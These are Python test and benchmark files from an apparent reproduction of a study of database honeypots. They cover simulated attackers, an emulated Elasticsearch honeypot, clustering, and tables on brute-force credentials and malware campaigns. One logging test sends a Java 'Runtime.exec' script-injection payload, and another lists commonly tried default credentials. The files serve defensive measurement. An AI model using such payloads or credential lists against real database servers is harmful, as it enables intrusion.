    def test_misconfigured_client_uses_fixed_credential(self, plan):
        behavior = MisconfiguredClientBehavior(
            credential=("svc", "hunter2"))
        visits = behavior.visits(plan, random.Random(6))
        assert visits

    def test_scout_behavior_unknown_style_raises(self, plan):
        with pytest.raises(ValueError):
            ScoutBehavior(dbms="redis", style="quantum").visits(
                plan, random.Random(1))

    def test_composite_concatenates_sorted(self, plan):
        rng = random.Random(7)
        composite = CompositeBehavior([
            LowScanBehavior(active_days=2),
            LowScanBehavior(active_days=2)])
        visits = composite.visits(plan, rng)
        times = [v.time_offset for v in visits]
        assert times == sorted(times)

    def test_actor_compile_is_deterministic(self, plan):
        actor = Actor("198.51.100.1", LowScanBehavior(active_days=3))
        first = actor.compile(plan, seed=99)
        second = actor.compile(plan, seed=99)
        assert [(v.time_offset, v.target_key) for v in first] == \
            [(v.time_offset, v.target_key) for v in second]

    def test_actor_compile_varies_with_seed(self, plan):
        actor = Actor("198.51.100.1", LowScanBehavior(active_days=3))
        first = actor.compile(plan, seed=1)
        second = actor.compile(plan, seed=2)
        assert [(v.time_offset, v.target_key) for v in first] != \
            [(v.time_offset, v.target_key) for v in second]


class TestScenarioConsistency:
    def test_low_population_adds_up(self):
        # Named-AS scanner-only sources (AS totals minus the brute
        # cohorts pinned inside them) + generic scanner-only sources +
        # all brute-forcers must equal the paper's 3,340.
        pinned = {}
        for cohort in scenario.BRUTE_COHORTS:
            if cohort.asn is not None:
                pinned[cohort.asn] = (pinned.get(cohort.asn, 0)
                                      + cohort.ip_count)
        named_scanner = sum(
            max(0, named.low_ip_count - pinned.get(named.asn, 0))
            for named in scenario.NAMED_ASES)
        generic = sum(scenario.LOW_GENERIC_COUNTRY_IPS.values())
        total = named_scanner + generic + scenario.BRUTE_TOTAL_IPS
        assert total == scenario.LOW_TOTAL_IPS == 3340
        assert scenario.BRUTE_TOTAL_IPS == 599

    def test_institutional_total(self):
        assert sum(a.institutional_ips
                   for a in scenario.NAMED_ASES) == 1468

    def test_login_volume_near_paper_total(self):
        total = sum(sum(c.logins.values())
                    for c in scenario.BRUTE_COHORTS)
        assert abs(total - 18_162_811) / 18_162_811 < 0.001

    def test_exploiter_total_is_324(self):
        assert scenario.campaign_total() == 324

    def test_table8_scanning_margins(self):
        by_dbms = {"elasticsearch": 0, "mongodb": 0, "postgresql": 0,
                   "redis": 0}
        for cohort in scenario.MID_SCAN_COHORTS:
            for dbms in cohort.dbms_set:
                by_dbms[dbms] += cohort.count
        assert by_dbms == {"elasticsearch": 608, "mongodb": 706,
                           "postgresql": 1140, "redis": 676}


class TestWorldBuilder:
    @pytest.fixture(scope="class")
    def world(self):
        return build_world(seed=5, volume_scale=0.0005)

    def test_low_population_exact(self, world):
        low = (set(world.groups["low_scanner"])
               | set(world.groups["low_brute"])
               | set(world.groups.get("low_brute_heavy", [])))
        assert len(low) == scenario.LOW_TOTAL_IPS

    def test_brute_population_exact(self, world):
        brute = (set(world.groups["low_brute"])
                 | set(world.groups.get("low_brute_heavy", [])))
        assert len(brute) == scenario.BRUTE_TOTAL_IPS

    def test_institutional_count(self, world):
        # Low-tier institutional scanners plus med/high institutional.
        assert len(set(world.groups["institutional"])) >= 1468

    def test_exploiters_exact(self, world):
        assert len(set(world.groups["exploiter"])) == 324

    def test_heavy_russians_in_as208091(self, world):
        for ip in world.groups["low_brute_heavy"]:
            assert world.space.lookup_asn(ip) == 208091
            assert world.space.lookup_country(ip) == "Russia"

    def test_all_actor_ips_unique(self, world):
        ips = [actor.ip for actor in world.actors]
        assert len(ips) == len(set(ips))

    def test_geoip_covers_every_actor(self, world):
        for actor in world.actors[::97]:
            assert world.geoip.lookup(actor.ip).known

    def test_intel_has_feodo_disjoint_from_actors(self, world):
        actor_ips = {actor.ip for actor in world.actors}
        assert not actor_ips & world.intel.feodo.c2_ips
        assert len(world.intel.feodo) > 0

    def test_determinism(self):
        a = build_world(seed=6, volume_scale=0.001)
        b = build_world(seed=6, volume_scale=0.001)
        assert [actor.ip for actor in a.actors] == \
            [actor.ip for actor in b.actors]
        assert a.groups == b.groups

    def test_invalid_scale_rejected(self):
        with pytest.raises(ValueError):
            build_world(volume_scale=0.0)
        with pytest.raises(ValueError):
            build_world(volume_scale=1.5)
