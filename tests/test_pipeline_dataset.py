"""Tests for the public dataset export (Appendix B)."""

import json

import pytest

from repro.pipeline.dataset import (anonymize_hosts, export_dataset,
                                    is_internal, load_dataset)
from repro.pipeline.logstore import LogEvent, LogStore


def make_event(**overrides) -> LogEvent:
    base = dict(timestamp=1711065600.0, honeypot_id="low-mysql-multi-00",
                honeypot_type="qeeqbox", dbms="mysql", interaction="low",
                config="multi", src_ip="20.0.0.1", src_port=5555,
                event_type="connect")
    base.update(overrides)
    return LogEvent(**base)


class TestAnonymization:
    def test_hosts_mapped_to_private_range(self):
        events = [make_event(honeypot_id="hp-a"),
                  make_event(honeypot_id="hp-b"),
                  make_event(honeypot_id="hp-a")]
        rows, mapping = anonymize_hosts(events)
        assert mapping == {"hp-a": "192.168.0.1", "hp-b": "192.168.0.2"}
        assert [row["dest_ip"] for row in rows] == [
            "192.168.0.1", "192.168.0.2", "192.168.0.1"]

    def test_honeypot_id_removed(self):
        rows, _mapping = anonymize_hosts([make_event()])
        assert "honeypot_id" not in rows[0]
        assert rows[0]["src_ip"] == "20.0.0.1"


class TestInternalFiltering:
    def test_startup_messages_flagged(self):
        assert is_internal(make_event(raw="honeypot-startup: listening"))
        assert is_internal(make_event(raw="monitoring-probe ping"))
        assert not is_internal(make_event(raw="SELECT 1"))
        assert not is_internal(make_event())


class TestExport:
    def test_export_and_reload(self, tmp_path):
        store = LogStore()
        store.append(make_event())
        store.append(make_event(dbms="redis", interaction="medium",
                                config="default",
                                honeypot_id="med-redis-0"))
        store.append(make_event(raw="honeypot-startup: boot"))
        manifest = export_dataset(store, tmp_path / "dataset")
        assert manifest.events == 2          # startup entry excluded
        assert manifest.anonymized_hosts == 2
        assert "README.md" in manifest.files
        assert "low-mysql-multi.jsonl" in manifest.files

        records = load_dataset(manifest.directory)
        assert len(records) == 2
        assert all(record["dest_ip"].startswith("192.168.0.")
                   for record in records)

    def test_readme_documents_files(self, tmp_path):
        store = LogStore()
        store.append(make_event())
        manifest = export_dataset(store, tmp_path / "d")
        readme = (manifest.directory / "README.md").read_text()
        assert "low-mysql-multi.jsonl" in readme
        assert "192.168.0.x" in readme

    def test_consolidation_merges_same_config(self, tmp_path):
        store = LogStore()
        for instance in range(5):
            store.append(make_event(
                honeypot_id=f"low-mysql-multi-{instance:02d}"))
        manifest = export_dataset(store, tmp_path / "d")
        jsonl_files = [name for name in manifest.files
                       if name.endswith(".jsonl")]
        assert jsonl_files == ["low-mysql-multi.jsonl"]
        records = load_dataset(manifest.directory)
        # Five hosts, one consolidated file.
        assert len({record["dest_ip"] for record in records}) == 5

    def test_records_are_valid_json_lines(self, tmp_path):
        store = LogStore()
        store.append(make_event(raw='payload with "quotes" and ünïcode'))
        manifest = export_dataset(store, tmp_path / "d")
        path = manifest.directory / "low-mysql-multi.jsonl"
        for line in path.read_text(encoding="utf-8").splitlines():
            json.loads(line)

    def test_export_from_experiment(self, small_experiment, tmp_path):
        # The raw-log pathway: export the real store shape produced by
        # an experiment run (rebuilt from the low DB for brevity).
        from repro.pipeline.convert import read_events

        store = LogStore()
        for row in list(read_events(small_experiment.low_db))[:500]:
            store.append(make_event(
                timestamp=row["timestamp"], dbms=row["dbms"],
                interaction=row["interaction"], config=row["config"],
                src_ip=row["src_ip"], src_port=row["src_port"],
                event_type=row["event_type"],
                honeypot_id=row["honeypot_id"]))
        manifest = export_dataset(store, tmp_path / "ds")
        assert manifest.events == 500
