"""Tests for the from-scratch agglomerative clustering.

The property tests cross-check the dendrogram and flat clusterings
against ``scipy.cluster.hierarchy`` on random data.
"""

import numpy as np
import pytest
import scipy.cluster.hierarchy as sch
from hypothesis import HealthCheck, given, settings, strategies as st

from repro.core.clustering import (AgglomerativeClustering, cut_tree,
                                   linkage, pairwise_sq_euclidean,
                                   ward_linkage)


class TestPairwiseDistances:
    def test_symmetric_zero_diagonal(self):
        X = np.array([[0.0, 0.0], [3.0, 4.0]])
        D = pairwise_sq_euclidean(X)
        assert D[0, 1] == D[1, 0] == 25.0
        assert D[0, 0] == D[1, 1] == 0.0


class TestLinkage:
    def test_known_two_cluster_structure(self):
        X = np.array([[0.0], [0.1], [10.0], [10.1]])
        Z = ward_linkage(X)
        labels = cut_tree(Z, 4, n_clusters=2)
        assert labels[0] == labels[1]
        assert labels[2] == labels[3]
        assert labels[0] != labels[2]

    def test_identical_points_merge_at_zero(self):
        X = np.zeros((5, 3))
        Z = ward_linkage(X)
        assert np.allclose(Z[:, 2], 0.0)
        labels = cut_tree(Z, 5, distance_threshold=1e-9)
        assert len(set(labels)) == 1

    def test_rejects_unknown_method(self):
        with pytest.raises(ValueError):
            linkage(np.zeros((3, 2)), "centroid")

    def test_rejects_single_observation(self):
        with pytest.raises(ValueError):
            linkage(np.zeros((1, 2)))

    def test_heights_non_decreasing(self):
        rng = np.random.default_rng(3)
        Z = ward_linkage(rng.normal(size=(40, 4)))
        assert (np.diff(Z[:, 2]) >= -1e-12).all()

    def test_sizes_consistent(self):
        rng = np.random.default_rng(4)
        n = 25
        Z = ward_linkage(rng.normal(size=(n, 3)))
        assert Z[-1, 3] == n


class TestCutTree:
    def test_requires_exactly_one_criterion(self):
        Z = ward_linkage(np.arange(6, dtype=float).reshape(3, 2))
        with pytest.raises(ValueError):
            cut_tree(Z, 3)
        with pytest.raises(ValueError):
            cut_tree(Z, 3, n_clusters=2, distance_threshold=0.5)

    def test_n_clusters_bounds(self):
        Z = ward_linkage(np.arange(6, dtype=float).reshape(3, 2))
        with pytest.raises(ValueError):
            cut_tree(Z, 3, n_clusters=0)
        with pytest.raises(ValueError):
            cut_tree(Z, 3, n_clusters=4)

    def test_extremes(self):
        X = np.random.default_rng(5).normal(size=(8, 2))
        Z = ward_linkage(X)
        assert len(set(cut_tree(Z, 8, n_clusters=1))) == 1
        assert len(set(cut_tree(Z, 8, n_clusters=8))) == 8


class TestWrapper:
    def test_fit_predict_with_threshold(self):
        X = np.array([[0.0], [0.05], [5.0]])
        model = AgglomerativeClustering(distance_threshold=1.0)
        labels = model.fit_predict(X)
        assert labels[0] == labels[1] != labels[2]
        assert model.n_clusters_ == 2

    def test_single_observation(self):
        model = AgglomerativeClustering(n_clusters=1)
        labels = model.fit_predict(np.array([[1.0, 2.0]]))
        assert list(labels) == [0]

    def test_unfitted_n_clusters_raises(self):
        with pytest.raises(RuntimeError):
            AgglomerativeClustering(n_clusters=2).n_clusters_


def _canonical(labels):
    mapping = {}
    return tuple(mapping.setdefault(label, len(mapping))
                 for label in labels)


@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(st.integers(min_value=2, max_value=40),
       st.integers(min_value=1, max_value=6),
       st.integers(min_value=0, max_value=10_000),
       st.sampled_from(["ward", "single", "complete", "average"]))
def test_matches_scipy_property(n, dims, seed, method):
    rng = np.random.default_rng(seed)
    X = rng.normal(size=(n, dims))
    Z_ours = linkage(X, method)
    Z_scipy = sch.linkage(X, method)
    assert np.allclose(np.sort(Z_ours[:, 2]), np.sort(Z_scipy[:, 2]),
                       atol=1e-8)
    heights = Z_scipy[:, 2]
    # Compare flat clusterings at thresholds strictly between merge
    # heights (thresholds *at* a height are numerically unstable in any
    # implementation).
    for index in range(len(heights) - 1):
        if heights[index + 1] - heights[index] < 1e-9:
            continue
        t = (heights[index] + heights[index + 1]) / 2
        ours = cut_tree(Z_ours, n, distance_threshold=t)
        theirs = sch.fcluster(Z_scipy, t, criterion="distance")
        assert _canonical(ours) == _canonical(theirs)


@settings(max_examples=20, deadline=None)
@given(st.integers(min_value=2, max_value=30),
       st.integers(min_value=0, max_value=10_000))
def test_n_clusters_always_exact(n, seed):
    rng = np.random.default_rng(seed)
    X = rng.normal(size=(n, 3))
    Z = ward_linkage(X)
    for k in range(1, n + 1):
        labels = cut_tree(Z, n, n_clusters=k)
        assert len(set(labels)) == k


class TestCutTreeEdgeCases:
    def test_threshold_exactly_at_merge_height(self):
        # fcluster(criterion="distance") semantics: merges with height
        # <= t are applied, so a threshold *equal* to a merge height
        # includes that merge.
        Z = np.array([[0.0, 1.0, 1.0, 2.0],
                      [2.0, 3.0, 4.0, 3.0]])
        at_first = cut_tree(Z, 3, distance_threshold=1.0)
        assert at_first[0] == at_first[1] != at_first[2]
        below_first = cut_tree(Z, 3, distance_threshold=0.999)
        assert len(set(below_first)) == 3
        at_last = cut_tree(Z, 3, distance_threshold=4.0)
        assert len(set(at_last)) == 1

    def test_single_leaf_empty_merges(self):
        Z = np.empty((0, 4))
        assert cut_tree(Z, 1, n_clusters=1).tolist() == [0]
        assert cut_tree(Z, 1, distance_threshold=0.5).tolist() == [0]

    def test_n_clusters_extremes_give_canonical_labels(self):
        X = np.random.default_rng(7).normal(size=(6, 2))
        Z = ward_linkage(X)
        assert cut_tree(Z, 6, n_clusters=1).tolist() == [0] * 6
        # n_clusters == n_leaves applies no merges: labels are assigned
        # in leaf order.
        assert cut_tree(Z, 6, n_clusters=6).tolist() == list(range(6))


class TestPrecomputedLinkage:
    def test_fit_with_linkage_matrix_skips_agglomeration(self):
        from repro import obs

        X = np.array([[0.0], [0.05], [5.0], [5.1]])
        Z = ward_linkage(X)
        telemetry = obs.Telemetry(enabled=True)
        with obs.install(telemetry):
            model = AgglomerativeClustering(distance_threshold=1.0)
            model.fit(X, linkage_matrix=Z)
        direct = AgglomerativeClustering(distance_threshold=1.0).fit(X)
        assert np.array_equal(model.labels_, direct.labels_)
        assert np.array_equal(model.merges_, Z)
        counters = telemetry.metrics.snapshot()["counters"]
        assert any(entry["name"] == "clustering.linkage_cache_hits"
                   for entry in counters)
