"""Tests for the Elasticpot Elasticsearch honeypot."""

import json

import pytest

from repro.honeypots import Elasticpot
from repro.honeypots.base import MemoryWire
from repro.honeypots.elasticpot import normalize_http_action
from repro.pipeline.logstore import EventType
from repro.protocols import http11


@pytest.fixture
def wire(session_context):
    wire = MemoryWire(Elasticpot("hp"), session_context)
    wire.connect()
    return wire


def get(wire, target):
    return http11.parse_response(wire.send(
        http11.build_request("GET", target)))


class TestNormalization:
    @pytest.mark.parametrize("method,path,action", [
        ("GET", "/_nodes", "GET /_nodes"),
        ("GET", "/_cluster/health", "GET /_cluster/health"),
        ("GET", "/customers/_doc/42", "GET /<index>/_doc/<id>"),
        ("GET", "/users/_doc/deadbeef01", "GET /<index>/_doc/<id>"),
        ("POST", "/idx/_search", "POST /<index>/_search"),
        ("GET", "/", "GET /"),
    ])
    def test_actions(self, method, path, action):
        assert normalize_http_action(method, path) == action

    def test_ids_collapse_to_same_action(self):
        a = normalize_http_action("DELETE", "/logs/_doc/111")
        b = normalize_http_action("DELETE", "/metrics/_doc/999")
        assert a == b


class TestEndpoints:
    def test_banner(self, wire):
        response = get(wire, "/")
        body = json.loads(response.body)
        assert body["version"]["number"] == "1.4.2"
        assert body["tagline"] == "You Know, for Search"

    def test_nodes(self, wire):
        body = json.loads(get(wire, "/_nodes").body)
        assert body["cluster_name"] == "elasticsearch"
        assert body["nodes"]

    def test_cluster_health(self, wire):
        body = json.loads(get(wire, "/_cluster/health").body)
        assert body["status"] == "yellow"

    def test_cat_indices_plain_text(self, wire):
        response = get(wire, "/_cat/indices")
        assert response.headers["content-type"] == "text/plain"
        assert b"customers" in response.body

    def test_global_search_returns_decoy_hits(self, wire):
        body = json.loads(get(wire, "/_search?q=*").body)
        assert body["hits"]["total"] == 64
        assert len(body["hits"]["hits"]) == 10
        assert "credit_card" in body["hits"]["hits"][0]["_source"]

    def test_index_search_scoped(self, wire):
        body = json.loads(get(wire, "/customers/_search").body)
        assert body["hits"]["total"] == 64
        assert get(wire, "/nothere/_search").status == 404

    def test_indexed_documents_become_searchable(self, wire):
        response = http11.parse_response(wire.send(http11.build_request(
            "PUT", "/notes/_doc/1", body=b'{"msg":"pay up"}')))
        assert response.status == 201
        body = json.loads(get(wire, "/notes/_search").body)
        assert body["hits"]["total"] == 1
        assert body["hits"]["hits"][0]["_source"]["msg"] == "pay up"

    def test_delete_index_removes_documents(self, wire):
        wire.send(http11.build_request("PUT", "/tmpidx/_doc/1",
                                       body=b'{"a":1}'))
        response = http11.parse_response(wire.send(http11.build_request(
            "DELETE", "/tmpidx")))
        assert response.status == 200
        assert get(wire, "/tmpidx/_search").status == 404

    def test_cat_indices_reflects_state(self, wire):
        wire.send(http11.build_request("PUT", "/evil/_doc/1",
                                       body=b'{"x":1}'))
        response = get(wire, "/_cat/indices")
        assert b"evil 5 1 1" in response.body
        assert b"customers 5 1 64" in response.body

    def test_stats_reflects_counts(self, wire):
        body = json.loads(get(wire, "/_stats").body)
        assert body["indices"]["customers"]["primaries"]["docs"][
            "count"] == 64

    def test_unknown_path_404(self, wire):
        response = get(wire, "/no/such/path")
        assert response.status == 404
        assert b"index_not_found_exception" in response.body

    def test_put_pretends_to_create(self, wire):
        response = http11.parse_response(wire.send(http11.build_request(
            "PUT", "/evil/_doc/1", body=b'{"x":1}')))
        assert response.status == 201

    def test_delete_acknowledged(self, wire):
        response = http11.parse_response(wire.send(http11.build_request(
            "DELETE", "/customers")))
        assert response.status == 200


class TestLogging:
    def test_request_logged_with_decoded_payload(self, wire, log_store):
        from urllib.parse import quote

        payload = '{"script":"Runtime.getRuntime().exec(\\"id\\")"}'
        wire.send(http11.build_request(
            "GET", f"/_search?source={quote(payload)}"))
        (event,) = [e for e in log_store
                    if e.event_type == EventType.HTTP_REQUEST.value]
        assert "Runtime.getRuntime().exec" in event.raw
        assert event.action == "GET /_search"

    def test_body_included_in_raw(self, wire, log_store):
        wire.send(http11.build_request("POST", "/sdk",
                                       body=b"<soapenv:Envelope/>"))
        (event,) = [e for e in log_store
                    if e.event_type == EventType.HTTP_REQUEST.value]
        assert "soapenv" in event.raw

    def test_garbage_logged_malformed_and_400(self, session_context,
                                              log_store):
        wire = MemoryWire(Elasticpot("hp"), session_context)
        wire.connect()
        reply = wire.send(b"\x16\x03\x01\x02\x00\x01garbage\r\n\r\n")
        assert b"400" in reply.split(b"\r\n")[0]
        assert [e for e in log_store
                if e.event_type == EventType.MALFORMED.value]


def test_custom_templates():
    honeypot = Elasticpot("hp", templates={"/custom": {"hello": "world"}})
    from repro.honeypots.base import SessionContext
    from repro.netsim.clock import SimClock
    from repro.pipeline.logstore import LogStore

    store = LogStore()
    context = SessionContext("1.2.3.4", 1, SimClock(), store.append)
    wire = MemoryWire(honeypot, context)
    wire.connect()
    body = json.loads(get(wire, "/custom").body)
    assert body == {"hello": "world"}
