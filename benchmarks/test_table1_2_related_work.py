"""Tables 1 and 2: related-work comparison.

Static by nature; the bench renders both tables and asserts the
distinguishing facts (this work: 278 live honeypots over 20 days; the
only DBMS-honeypot study on live data).
"""

from repro.core.related_work import TABLE1_STUDIES, TABLE2_STUDIES
from repro.core.reports import format_table
from repro.core.sessions import reconstruct_sessions, session_stats


def test_table1_2_related_work(benchmark, experiment, emit):
    def build():
        table1 = format_table(
            ["Work", "#HP", "Data", "Duration (d)"],
            [[s.work, s.instances, s.collection, s.duration_days]
             for s in TABLE1_STUDIES])
        table2 = format_table(
            ["Work", "Year", "New method", "Sim.", "Hist.", "Live"],
            [[s.work, s.year, "yes" if s.new_method else "",
              "yes" if s.simulated_data else "",
              "yes" if s.historical_data else "",
              "yes" if s.live_data else ""] for s in TABLE2_STUDIES])
        return table1, table2

    table1, table2 = benchmark(build)

    # The literature reports scale in sessions (e.g. Munteanu et al.:
    # 402M sessions, 30.3% intrusive); compute ours for comparison.
    low_stats = session_stats(reconstruct_sessions(experiment.low_db))
    mid_stats = session_stats(reconstruct_sessions(
        experiment.midhigh_db))
    emit("table1_related_work", table1
         + "\n\nthis deployment (simulated, scaled):"
         + f"\n  low tier:      {low_stats.total_sessions:,} sessions, "
           f"{low_stats.intrusive_fraction:.1%} intrusive, "
           f"{low_stats.unique_ips} IPs"
         + f"\n  medium/high:   {mid_stats.total_sessions:,} sessions, "
           f"{mid_stats.intrusive_fraction:.1%} intrusive, "
           f"{mid_stats.unique_ips} IPs")
    emit("table2_dbms_honeypots", table2)
    assert low_stats.unique_ips == 3340
    assert 0 < mid_stats.intrusive_fraction < 1

    this_work = next(s for s in TABLE1_STUDIES if s.work == "This work")
    assert this_work.instances == 278
    assert this_work.duration_days == 20
    live_studies = [s for s in TABLE2_STUDIES if s.live_data]
    assert [s.work for s in live_studies] == ["This work"]
