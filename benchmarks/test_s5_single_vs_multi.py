"""Section 5: single- vs multi-service host comparison.

Paper shape: 1,720 unique IPs on single-service hosts, 3,163 on
multi-service hosts, 1,543 on both; a minority of brute-forcers is
selective (41 single-only vs 295 multi-only) -- i.e. attackers do not
avoid hosts that expose several database services at once.
"""

from repro.core.reports import format_table, single_vs_multi


def test_s5_single_vs_multi(benchmark, experiment, emit):
    result = benchmark(lambda: single_vs_multi(experiment.low_db))

    emit("s5_single_vs_multi", format_table(
        ["Metric", "Reproduced", "Paper"],
        [["IPs on single-service hosts", result.single_ips, 1720],
         ["IPs on multi-service hosts", result.multi_ips, 3163],
         ["IPs on both", result.overlap, 1543],
         ["brute-forced only single", result.brute_single_only, 41],
         ["brute-forced only multi", result.brute_multi_only, 295]]))

    assert result.single_ips == 1720
    assert 2800 <= result.multi_ips <= 3200
    assert 1300 <= result.overlap <= 1600
    # Selectivity exists but is the exception, in both directions.
    assert 0 < result.brute_single_only < result.brute_multi_only
    assert result.brute_multi_only < 599
