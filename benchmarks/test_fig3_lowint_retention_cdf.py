"""Figure 3: CDF of client retention per DBMS (low tier).

Paper shape: 43% of all clients appear on a single day; the CDFs of the
four services are broadly similar.
"""

from repro.core.plotting import cdf_chart
from repro.core.reports import format_table
from repro.core.retention import (retention_by_dbms, retention_overall,
                                  single_day_fraction)


def test_fig3_lowint_retention_cdf(benchmark, low_profiles, emit):
    cdfs = benchmark(lambda: retention_by_dbms(low_profiles))
    overall = retention_overall(low_profiles)

    rows = []
    for dbms, cdf in cdfs.items():
        rows.append([dbms, cdf.population, f"{cdf.at(1):.2f}",
                     f"{cdf.at(5):.2f}", f"{cdf.at(10):.2f}",
                     f"{cdf.mean_days():.2f}"])
    rows.append(["(all, unique)", overall.population,
                 f"{overall.at(1):.2f}", f"{overall.at(5):.2f}",
                 f"{overall.at(10):.2f}", f"{overall.mean_days():.2f}"])
    charts = "\n\n".join(
        f"{dbms}:\n" + cdf_chart([(float(d), f) for d, f in cdf.points],
                                  height=8, label="days active")
        for dbms, cdf in cdfs.items())
    emit("fig3_lowint_retention_cdf", format_table(
        ["DBMS", "#IP", "P(<=1d)", "P(<=5d)", "P(<=10d)", "mean days"],
        rows) + "\n\n" + charts)

    fraction = single_day_fraction(overall)
    assert 0.35 <= fraction <= 0.50, fraction
    for cdf in cdfs.values():
        assert cdf.at(20) == 1.0
        assert cdf.at(1) >= 0.2
