"""Table 12: top-10 MSSQL usernames and passwords.

Paper shape: 'sa' (the undeletable administrator account) dominates;
'sa/123' is the single most-tried pair; the corpus contains far more
unique passwords than usernames (227k vs 14.5k, before scaling).
"""

from repro.core.bruteforce import credential_stats
from repro.core.reports import extrapolate, format_table


def test_table12_mssql_credentials(benchmark, experiment, emit):
    stats = benchmark(lambda: credential_stats(experiment.low_db,
                                               "mssql"))
    scale = experiment.config.volume_scale

    pair_rows = [[user, password or '""', count]
                 for (user, password), count in stats.top_pairs]
    emit("table12_mssql_credentials", format_table(
        ["Username", "Password", "#Attempts"], pair_rows)
        + f"\ntotal attempts:      {stats.total_attempts}"
        + f" (extrapolated {extrapolate(stats.total_attempts, scale):,})"
        + f"\nunique usernames:    {stats.unique_usernames}"
        + f"\nunique passwords:    {stats.unique_passwords}"
        + f"\nunique combinations: {stats.unique_combinations}")

    assert stats.top_usernames[0][0] == "sa"
    assert stats.top_pairs[0][0] == ("sa", "123")
    top_pairs = {pair for pair, _count in stats.top_pairs}
    assert ("admin", "123456") in top_pairs
    assert ("hbv7", "") in top_pairs
    assert stats.unique_passwords > 3 * stats.unique_usernames
    extrapolated = extrapolate(stats.total_attempts, scale)
    assert 0.6 * 18_076_729 <= extrapolated <= 1.4 * 18_076_729
