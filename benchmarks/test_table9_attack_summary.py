"""Table 9: honeypot attacks by type, with IP and cluster counts.

Every campaign of the paper is reproduced with its exact IP count:
RDP (164 PSQL / 14 Redis), JDWP (2), CraftCMS (2), VMware (15), brute
force (84 PSQL / 5 Redis), privilege manipulation (~25), MongoDB ransom
(62), P2PInfect (35), ABCbot (1), Kinsing (196), Lucifer (2),
CVE-2022-0543 (1).
"""

from repro.core.campaigns import campaign_summary
from repro.core.reports import format_table


def test_table9_attack_summary(benchmark, mid_profiles,
                               mid_cluster_labels, emit):
    rows = benchmark(lambda: campaign_summary(mid_profiles,
                                              mid_cluster_labels))

    emit("table9_attack_summary", format_table(
        ["Category", "DBMS", "Attack", "#IP", "#Clusters"],
        [[r.category, r.dbms, r.tag, r.ip_count, r.cluster_count]
         for r in rows]))

    counts = {(r.dbms, r.tag): (r.ip_count, r.cluster_count)
              for r in rows}
    assert counts[("redis", "P2P infect (Worm)")][0] == 35
    assert counts[("redis", "ABCbot (Botnet)")][0] == 1
    assert counts[("redis", "CVE-2022-0543")][0] == 1
    assert counts[("postgresql", "Kinsing malware")] == (196, 4)
    assert counts[("mongodb", "Data theft and ransom")] == (62, 2)
    assert counts[("elasticsearch", "Lucifer botnet")][0] == 2
    assert counts[("postgresql", "RDP scanning")] == (164, 3)
    assert counts[("redis", "RDP scanning")][0] == 14
    assert counts[("redis", "JDWP scanning")][0] == 2
    assert counts[("elasticsearch", "CVE-2021-22005 (VMware)")] == (15, 2)
    assert counts[("elasticsearch", "CVE-2023-41892 (CraftCMS)")][0] == 2
    assert counts[("postgresql", "Brute-force attacks")][0] == 84
    # Paper: 15 brute-force clusters.
    assert 10 <= counts[("postgresql", "Brute-force attacks")][1] <= 16
    assert counts[("redis", "Brute-force attacks")][0] == 5
    assert counts[("postgresql", "Privilege manipulation")][0] in (25, 26)
