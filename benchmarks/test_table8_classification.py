"""Table 8: per-DBMS behavior classes and cluster counts.

Paper: Elastic 608/627/2 (60 clusters), MongoDB 706/465/62 (30),
PostgreSQL 1140/593/222 (79), Redis 676/266/38 (26).  Class counts are
reproduced exactly; cluster counts land in the same range.
"""

from repro.core.reports import classification_table, format_table
from .conftest import CLUSTER_THRESHOLD


def test_table8_classification(benchmark, mid_profiles, emit):
    rows = benchmark(lambda: classification_table(
        mid_profiles, distance_threshold=CLUSTER_THRESHOLD))

    emit("table8_classification", format_table(
        ["DBMS", "#IP", "Scanning", "Scouting", "Exploiting", "#Cls"],
        [[r.dbms, r.total_ips, r.scanning, r.scouting, r.exploiting,
          r.clusters] for r in rows]))

    by_dbms = {r.dbms: r for r in rows}
    assert (by_dbms["elasticsearch"].scanning,
            by_dbms["elasticsearch"].scouting,
            by_dbms["elasticsearch"].exploiting) == (608, 627, 2)
    assert (by_dbms["mongodb"].scanning, by_dbms["mongodb"].scouting,
            by_dbms["mongodb"].exploiting) == (706, 465, 62)
    assert (by_dbms["postgresql"].scanning,
            by_dbms["postgresql"].scouting,
            by_dbms["postgresql"].exploiting) == (1140, 593, 222)
    assert (by_dbms["redis"].scanning, by_dbms["redis"].scouting,
            by_dbms["redis"].exploiting) == (676, 266, 38)
    # Cluster counts in the paper's range (paper: 26-79 per DBMS).
    for row in rows:
        assert 15 <= row.clusters <= 110, row
    # Total exploiters across services: 324.
    assert sum(r.exploiting for r in rows) == 324
