"""Section 6.3 case studies: replay each exploit and verify the
observable evidence the paper reports (Listings 1-9)."""

import random

from repro.agents.base import VisitContext
from repro.agents.exploits import (elastic_attacks, mongo_attacks,
                                   postgres_attacks, redis_attacks)
from repro.core.campaigns import ransom_templates, tag_profile
from repro.core.loading import IpProfile
from repro.core.reports import format_table
from repro.honeypots import (Elasticpot, MongoHoneypot, RedisHoneypot,
                             StickyElephant)
from repro.honeypots.base import MemoryWire, SessionContext
from repro.netsim.clock import SimClock
from repro.pipeline.logstore import LogStore

CASES = [
    ("P2PInfect (Listing 1)", lambda: RedisHoneypot("hp"),
     redis_attacks.p2pinfect_script, "P2P infect (Worm)"),
    ("ABCbot (Listing 2)", lambda: RedisHoneypot("hp"),
     redis_attacks.abcbot_script, "ABCbot (Botnet)"),
    ("CVE-2022-0543 (Listing 3)", lambda: RedisHoneypot("hp"),
     redis_attacks.cve_2022_0543_script, "CVE-2022-0543"),
    ("Kinsing (Listing 4)", lambda: StickyElephant("hp"),
     postgres_attacks.kinsing_script, "Kinsing malware"),
    ("Lucifer (Listings 5-6)", lambda: Elasticpot("hp"),
     elastic_attacks.lucifer_script, "Lucifer botnet"),
    ("Ransom note 1 (Listing 7)", lambda: MongoHoneypot("hp"),
     mongo_attacks.ransom_group1_script, "Data theft and ransom"),
    ("Ransom note 2 (Listing 8)", lambda: MongoHoneypot("hp"),
     mongo_attacks.ransom_group2_script, "Data theft and ransom"),
]


def replay(honeypot, script):
    store = LogStore()
    clock = SimClock()

    def opener(target_key=None):
        return MemoryWire(honeypot, SessionContext(
            "203.0.113.99", 40000, clock, store.append))

    script(VisitContext(opener=opener, target_key="t",
                        rng=random.Random(0)))
    profile = IpProfile(src_ip="203.0.113.99", dbms=honeypot.dbms)
    for event in store:
        if event.action:
            profile.actions.append(event.action)
        if event.raw:
            profile.raws.append(event.raw)
        if event.event_type == "login_attempt":
            profile.login_attempts += 1
            profile.credentials.add((event.username or "",
                                     event.password or ""))
    return profile


def test_s63_case_studies(benchmark, emit):
    def run_all():
        results = []
        for name, factory, script, expected_tag in CASES:
            profile = replay(factory(), script)
